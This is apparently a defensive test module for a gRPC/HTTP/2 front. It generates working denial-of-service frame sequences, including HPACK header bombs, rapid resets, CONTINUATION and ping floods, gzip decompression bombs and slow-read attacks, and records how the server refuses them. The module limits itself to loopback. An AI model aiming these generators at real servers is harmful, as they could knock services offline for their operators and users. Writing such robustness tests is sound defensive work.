"""An HTTP/2 peer that means no good, before anybody has asked who it is: what a front must stand.

Each attack is a generator of frames over one connection; `Attacker` says them, reads what comes back, and
stops by itself: at so many bytes, when it is hung up on, or when nothing more is taken. Loopback only.

| what is bounded                                | attacks that try it                              |
|------------------------------------------------|--------------------------------------------------|
| streams at once, bytes of headers              | `amplified_calls`, `streams_left`                |
| fields of a block, bytes of what it says       | `small_headers`, `many_headers`, `header_bombs`  |
| a table of header fields, and how long         | `table_churn`; all with a table, acknowledged     |
| frames that bring nothing forward              | `rapid_resets`, `pings`, `settings`,             |
|                                                | `priorities`, `window_updates`, `empty_data`,    |
|                                                | `unknown_frames`, `bodies_by_bytes`,             |
|                                                | `continuations`, `dribbled_answers`              |
| what one frame can make of streams             | `settings_of_windows`                            |
| a header block                                 | `unfinished_headers`                             |
| answers that wait to be read                   | `unread_answers`                                 |
| a message, all that are not whole, and how     | `long_messages`, `unfinished_messages`,          |
| many are taken at once                         | `small_messages`                                 |
| what is unpacked                               | `compressed_bombs`                               |

HPACK as in RFC 7541: literals without Huffman's code; frames as in RFC 9113, 4.1.
"""

from __future__ import annotations

import gzip
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    7,
    8,
    9,
)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_HEADER_LIST_SIZE = 3, 4, 6
NO_LIMIT = 2**32 - 1
CODES = (
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
    "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM",
)  # fmt: skip
STATUS = b"grpc-status"
SERVICE = "/apache.rocketmq.v2.MessagingService/"
PATH, STREAM_PATH = SERVICE + "QueryRoute", SERVICE + "Telemetry"
NEWEST_IN_TABLE = b"\xbe"  # index 62, RFC 7541, 6.1
LARGE_BYTES = 3_900
"""A header that just fits into the dynamic table of 4,096 bytes."""

Frames = Iterator[bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """A frame."""
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def literal(name: str, value: str, *, is_kept: bool = False) -> bytes:
    """A header as HPACK has it, entered into the dynamic table if it is kept."""
    return (b"\x40" if is_kept else b"\x00") + text(name) + text(value)


def text(content: str) -> bytes:
    """A string behind its length (RFC 7541, 5.2)."""
    length, written = len(content), bytearray()
    if length < 127:
        return bytes((length,)) + content.encode()
    written.append(127)
    length -= 127
    while length >= 128:
        written.append(length & 127 | 128)
        length >>= 7
    return bytes((*written, length)) + content.encode()


def call_of(path: str) -> bytes:
    """The headers of a call."""
    fields = (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
        ("te", "trailers"), ("content-type", "application/grpc"), ("x-mq-client-id", "attacker"),
    )  # fmt: skip
    return b"".join(literal(*one) for one in fields)


CALL, STREAM_CALL = call_of(PATH), call_of(STREAM_PATH)
"""The headers of a call of QueryRoute, and of Telemetry, whose request is a stream."""
NOTHING = bytes(5)
"""A message of gRPC that has no bytes."""


def amplified_calls() -> Frames:
    """Calls that never end, with 3 headers of 3.9 KB that take a byte each from the second call on."""
    yield frame(HEADERS, END_HEADERS, 1, CALL + literal("x-large", "a" * LARGE_BYTES, is_kept=True))
    for stream in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + 3 * NEWEST_IN_TABLE)


def small_headers() -> Frames:
    """Calls that never end, with 200 headers of no value, which take a byte each from the second call on."""
    yield frame(HEADERS, END_HEADERS, 1, CALL + literal("x", "", is_kept=True))
    for stream in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + 200 * NEWEST_IN_TABLE)


def header_bombs() -> Frames:
    """Calls whose 16,000 bytes of headers stand for 62 MB."""
    yield frame(HEADERS, END_HEADERS, 1, CALL + literal("x-large", "a" * LARGE_BYTES, is_kept=True))
    for stream in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + 16_000 * NEWEST_IN_TABLE)


def rapid_resets() -> Frames:
    """Calls that are taken back at once."""
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def many_headers() -> Frames:
    """Calls with 3,000 fields of a name of a byte and no value."""
    fields = b"".join(b"\0\x01" + bytes((97 + at % 26,)) + b"\0" for at in range(3_000))
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + fields)


def table_churn() -> Frames:
    """Calls that end, of which each puts 30 new fields of 130 bytes into the table."""
    for stream in range(1, 2**31, 2):
        fields = b"".join(
            literal("x-new", f"{stream:020d}{at:020d}" + "a" * 60, is_kept=True) for at in range(30)
        )
        yield frame(HEADERS, END_HEADERS, stream, CALL + fields) + frame(DATA, END_STREAM, stream, NOTHING)


def table_after_ack() -> Frames:
    """Calls that go on to use a table, though the other side's wish for none was acknowledged."""
    yield frame(HEADERS, END_HEADERS, 1, CALL + literal("x", "", is_kept=True))
    yield frame(SETTINGS, ACK, 0, b"") + frame(SETTINGS, ACK, 0, b"")
    for stream in range(3, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + NEWEST_IN_TABLE)


def pings() -> Frames:
    """Pings, each to be answered."""
    while True:
        yield frame(PING, 0, 0, bytes(8))


def settings() -> Frames:
    """Settings, each to be confirmed."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65_535))


def settings_of_windows() -> Frames:
    """Settings that change the windows of 100 streams 2,000 times each."""
    for stream in range(1, 200, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL)
    changes = b"".join(struct.pack(">HI", INITIAL_WINDOW_SIZE, at % 2) for at in range(2_001))
    while True:
        yield frame(SETTINGS, 0, 0, changes)


def priorities() -> Frames:
    """Priorities of streams that nobody has begun."""
    for stream in range(1, 2**31, 2):
        yield frame(PRIORITY, 0, stream, bytes(5))


def window_updates() -> Frames:
    """Windows that grow by a byte."""
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unknown_frames() -> Frames:
    """Frames that mean nothing."""
    while True:
        yield frame(0xFA, 0, 0, bytes(8))


def empty_data() -> Frames:
    """Pieces of a body that have nothing."""
    yield frame(HEADERS, END_HEADERS, 1, CALL)
    while True:
        yield frame(DATA, 0, 1, b"")


def bodies_by_bytes() -> Frames:
    """A message of 32 MB, of which a byte comes at a time."""
    yield frame(HEADERS, END_HEADERS, 1, CALL) + frame(DATA, 0, 1, struct.pack(">BI", 0, 1 << 25))
    while True:
        yield frame(DATA, 0, 1, b"a")


def continuations() -> Frames:
    """One header block without an end, of a byte at a time."""
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0")


def dribbled_answers() -> Frames:
    """Answers that are let out by a byte."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, END_STREAM, stream, NOTHING)
        for _ in range(40):
            yield frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))


def unread_answers() -> Frames:
    """Calls whose answers are never let out."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 257, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, END_STREAM, stream, NOTHING)


def streams_left() -> Frames:
    """Calls of which nothing more comes."""
    for stream in range(1, 257, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + literal("x-large", "a" * 8_000))


def long_messages() -> Frames:
    """Messages that are said to have 4 GB."""
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(
            DATA, 0, stream, b"\0\xff\xff\xff\xff" + bytes(95)
        )


def unfinished_messages() -> Frames:
    """Messages of 32 MB that come without their end, all at once."""
    begun = struct.pack(">BI", 0, 1 << 25)
    for stream in range(1, 257, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, 0, stream, begun)
    while True:
        for stream in range(1, 257, 2):
            yield frame(DATA, 0, stream, bytes(16_000))


def small_messages() -> Frames:
    """A stream of messages that have nothing."""
    yield frame(HEADERS, END_HEADERS, 1, STREAM_CALL)
    while True:
        yield frame(DATA, 0, 1, 200 * NOTHING)


def compressed_bombs() -> Frames:
    """Calls whose 32 KB stand for 32 MB."""
    packed = gzip.compress(bytes(1 << 25))
    body = struct.pack(">BI", 1, len(packed)) + packed
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, CALL + literal("grpc-encoding", "gzip"))
        for at in range(0, len(body), 16_000):
            piece = body[at : at + 16_000]
            yield frame(DATA, END_STREAM if at + 16_000 >= len(body) else 0, stream, piece)


def unfinished_headers() -> Frames:
    """One header block without an end."""
    yield frame(HEADERS, 0, 1, CALL)
    while True:
        yield frame(CONTINUATION, 0, 1, literal("x-more", "a" * 8_000))


ATTACKS: dict[str, Callable[[], Frames]] = {
    one.__name__: one
    for one in (
        amplified_calls, small_headers, many_headers, header_bombs, table_churn, rapid_resets,
        pings, settings, settings_of_windows, priorities, window_updates, unknown_frames, empty_data,
        bodies_by_bytes, unfinished_headers, continuations, dribbled_answers, unread_answers, streams_left,
        long_messages, unfinished_messages, small_messages, compressed_bombs,
    )
}  # fmt: skip
ANSWERED = ("table_churn", "long_messages", "small_messages")
"""Those of which every call is answered, though maybe by a refusal: they are a load like others."""
LEFT = ("unfinished_messages", "unread_answers", "streams_left")
"""Those that are borne until their time is over."""
HUNG_UP_ON_WITH = {
    name: "COMPRESSION_ERROR" if name in ("header_bombs", "many_headers") else "ENHANCE_YOUR_CALM"
    for name in ATTACKS
    if name not in (*ANSWERED, *LEFT)
}
"""What the others are told, once they have said a megabyte."""
OF_TABLES = ("amplified_calls", "small_headers", "header_bombs")
"""Those that refer to a table of header fields, which none may that has agreed to have none."""


@dataclass
class Attacker:
    """One connection. `limits` are the settings of the other side, `told` what it says of errors.

    It acknowledges settings if it is to, as a client does that means well.
    """

    address: tuple[str, int]
    bytes_max: int
    seconds_max: float = 10.0
    acknowledges: bool = False
    sent_bytes: int = 0
    opened: int = 0
    limits: dict[int, int] = field(default_factory=dict)
    answers: Counter[int] = field(default_factory=Counter)
    told: Counter[str] = field(default_factory=Counter)
    ended_streams: set[int] = field(default_factory=set)
    is_hung_up: bool = False
    _pending: bytes = b""

    def __post_init__(self) -> None:
        """Connect and exchange settings."""
        assert self.address[0] in ("127.0.0.1", "localhost"), "it attacks this machine only"
        self._socket = socket.create_connection(self.address, self.seconds_max)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
        while SETTINGS not in self.answers and not self.is_hung_up:
            self._read(self.seconds_max)

    def attack(self, frames: Frames) -> None:
        """Say frames until it is enough; calls are opened beyond any number that was told."""
        ends_at = time.monotonic() + self.seconds_max
        waiting, may_say = b"", iter(frames)
        while not self.is_hung_up and time.monotonic() < ends_at:
            while len(waiting) < 64 * 1024 and self.sent_bytes + len(waiting) < self.bytes_max:
                one = next(may_say, b"")
                if not one:
                    break
                self.opened += one[3] == HEADERS
                waiting += one
            if not waiting:
                break
            waiting = waiting[self._say(waiting) :]
            self._read(0)
        for _ in range(4):
            if self.is_hung_up:
                break
            self._read(0.05)

    def hear(self, seconds: float) -> None:
        """Say nothing more, until it is hung up on or so many seconds are over."""
        ends_at = time.monotonic() + seconds
        while not self.is_hung_up and (left := ends_at - time.monotonic()) > 0:
            self._read(left)

    @property
    def open_count(self) -> int:
        """How many calls it holds open, as far as it was told."""
        return 0 if self.is_hung_up else self.opened - len(self.ended_streams)

    @property
    def concurrent_max(self) -> int:
        """How many calls at once the other side says that it takes."""
        return self.limits.get(MAX_CONCURRENT_STREAMS, NO_LIMIT)

    def close(self) -> None:
        """Hang up."""
        self._socket.close()

    def _say(self, content: bytes) -> int:
        self._socket.settimeout(0.05)
        try:
            count = self._socket.send(content)
        except TimeoutError:
            count = 0
        except OSError:
            count = len(content)
            self._read(0.05)  # what was said before it was hung up on
            self.is_hung_up = True
        self.sent_bytes += count
        return count

    def _read(self, seconds: float) -> None:
        self._socket.settimeout(max(seconds, 0.000_001))
        try:
            data = self._socket.recv(1 << 16)
        except (TimeoutError, BlockingIOError):
            return
        except OSError:
            data = b""
        self.is_hung_up |= not data
        self._pending += data
        at = 0
        while len(self._pending) - at >= 9:
            end = at + 9 + int.from_bytes(self._pending[at : at + 3], "big")
            if len(self._pending) < end:
                break
            kind, flags, stream = struct.unpack_from(">BBI", self._pending, at + 3)
            self._take(kind, flags, stream, self._pending[at + 9 : end])
            at = end
        self._pending = self._pending[at:]

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        self.answers[kind] += 1
        if kind == SETTINGS and not flags & ACK:
            self.limits |= dict(struct.iter_unpack(">HI", payload))
            if self.acknowledges:
                self._say(frame(SETTINGS, ACK, 0, b""))
        elif kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM):
            self.ended_streams.add(stream)
        if kind == RST_STREAM:
            self.told[f"RST_STREAM {CODES[payload[3]]}"] += 1
        elif kind == GOAWAY:
            self.told[f"GOAWAY {CODES[payload[7]]}: {payload[8:].decode(errors='replace')}"] += 1
        elif kind == HEADERS and flags & END_STREAM and (at := payload.find(STATUS)) >= 0:
            length = payload[at + len(STATUS)]
            status = payload[at + len(STATUS) + 1 :][:length].decode()
            self.told[f"grpc-status {status}"] += 1
